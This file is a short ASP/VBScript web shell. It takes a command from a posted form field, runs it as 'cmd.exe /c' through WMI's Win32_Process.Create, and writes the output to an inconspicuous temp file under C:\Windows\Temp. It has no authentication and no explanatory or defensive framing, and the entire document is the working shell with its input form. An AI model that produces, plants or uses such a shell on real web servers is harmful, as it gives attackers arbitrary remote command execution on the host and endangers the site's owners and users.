<%
Dim objWMI, objProc, pid, rc, cmd
cmd = Request.Form("c")
If cmd <> "" Then
    Set objWMI = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
    Set objProc = objWMI.Get("Win32_Process")
    rc = objProc.Create("cmd.exe /c " & cmd & " > C:\Windows\Temp\~wmi.tmp", Null, Null, pid)
    Response.Write "rc=" & rc & " pid=" & pid
End If
%>
<form method="post"><input name="c" size="80"><input type="submit"></form>
